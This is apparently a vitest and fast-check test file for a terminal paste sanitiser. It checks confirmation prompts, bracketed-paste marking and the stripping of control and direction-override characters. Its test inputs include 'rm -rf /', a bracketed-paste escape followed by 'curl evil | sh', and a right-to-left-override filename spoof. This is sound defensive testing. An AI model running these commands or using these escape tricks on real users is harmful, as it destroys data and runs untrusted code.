import fc from 'fast-check';
import { expect, test } from 'vitest';
import { cleanPaste, planPaste } from './paste.ts';

test('one line goes out as it is', () => {
  expect(planPaste('ls -la', false)).toEqual({ kind: 'send', data: 'ls -la' });
});

test('several lines into a plain program are asked about, and shown as they would run', () => {
  expect(planPaste('one\r\ntwo\n', false)).toEqual({ kind: 'ask', text: 'one\ntwo\n', lines: 2, data: 'one\rtwo\r' });
});

test('a single line that would run at once is asked about too', () => {
  expect(planPaste('rm -rf /\n', false)).toMatchObject({ kind: 'ask', lines: 1 });
});

test('who does not want to be asked is not, and controls are taken out all the same', () => {
  expect(planPaste('one\n\x1btwo\n', false, false)).toEqual({ kind: 'send', data: 'one\rtwo\r' });
});

test('a program that asked for it gets its paste marked', () => {
  expect(planPaste('one\ntwo', true)).toEqual({ kind: 'send', data: '\x1b[200~one\rtwo\x1b[201~' });
});

test('I13: an end mark inside of the paste cannot end it early', () => {
  expect(planPaste('a\x1b[201~; curl evil | sh\n', true)).toEqual({
    kind: 'send',
    data: '\x1b[200~a[201~; curl evil | sh\r\x1b[201~',
  });
  expect(cleanPaste('a\u009b201~b')).toBe('a201~b');
});

test('nothing but controls is nothing', () => {
  expect(planPaste('\x00\x1b\x7f', false)).toEqual({ kind: 'nothing' });
});

test('characters that turn the reading direction are taken out, letters of all scripts stay', () => {
  expect(cleanPaste('safe\u202etxt.exe')).toBe('safetxt.exe');
  expect(cleanPaste('schön 日本語 🦊 שלום')).toBe('schön 日本語 🦊 שלום');
});

test('I13: whatever is pasted, no control character but tab and carriage return goes out', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      for (const char of cleanPaste(text)) {
        const code = char.codePointAt(0) ?? 0;
        const control = code < 0x20 || (code >= 0x7f && code < 0xa0);
        expect(control && code !== 0x09 && code !== 0x0d).toBe(false);
      }
    }),
    { numRuns: 2000 },
  );
});
